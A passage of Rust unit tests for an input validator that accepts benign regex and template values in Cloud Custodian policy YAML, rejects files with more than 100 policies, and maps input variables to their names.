            "'{account_id}-{region}'",
            "'x{1,3}'",
            "'{now:%Y-%m-%d}'",
        ] {
            let text = format!(
                "policies:\n- name: p\n  resource: aws.s3\n  filters:\n  - {{type: value, key: Name, op: regex, value: {fine}}}\n"
            );
            assert!(ToolInput::CustodianPolicy.check(&text).is_ok(), "{fine}");
        }
        let many: String = std::iter::once("policies:\n".to_owned())
            .chain((0..=MAX_POLICIES).map(|i| format!("- {{name: p{i}, resource: aws.s3}}\n")))
            .collect();
        assert!(refusal(ToolInput::CustodianPolicy, &many).contains("at most 100 policies"));
    }

    #[test]
    fn every_input_is_known_by_its_variable() {
        for input in ToolInput::ALL {
            assert_eq!(ToolInput::for_variable(input.variable()), Some(input));
        }
        assert_eq!(ToolInput::for_variable("PATH"), None);
    }
}
